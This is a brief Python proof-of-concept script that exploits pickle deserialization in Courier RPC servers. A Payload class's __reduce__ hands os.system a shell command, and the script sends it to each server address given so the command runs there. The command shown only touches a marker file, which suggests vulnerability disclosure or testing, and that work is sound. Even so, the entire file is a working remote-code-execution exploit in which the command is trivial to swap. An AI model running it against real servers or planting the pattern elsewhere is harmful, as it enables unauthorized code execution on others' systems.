"""What a stranger can do to a Courier server: `payload.py MARKER ADDRESS...` has it make a file.

Calls each server with an argument that is "made" there by `touch MARKER.<number of the address>`,
and prints what comes of it.
"""

import os
import sys

import courier


class Payload:
    def __init__(self, command: str) -> None:
        self._command = command

    def __reduce__(self) -> tuple:
        return os.system, (self._command,)


def send(address: str, payload: Payload) -> str:
    try:
        (method, *_) = courier.list_methods(courier.Client(address, call_timeout=5.0))
    except Exception as error:
        return f"no Courier server: {error}"
    client = courier.Client(address, call_timeout=5.0, wait_for_ready=False)
    try:
        getattr(client, method)(payload)
    except Exception as error:  # by what the server, or the method, makes of it
        return f"{type(error).__name__}: {error}"
    return "answered"


if __name__ == "__main__":
    from payload import Payload  # type: ignore[no-redef]  # Courier sends no class of __main__

    marker, *addresses = sys.argv[1:]
    for number, each in enumerate(addresses):
        print(each, send(each, Payload(f"touch {marker}.{number}")), flush=True)
    os._exit(0)  # Courier's threads may hold up the end
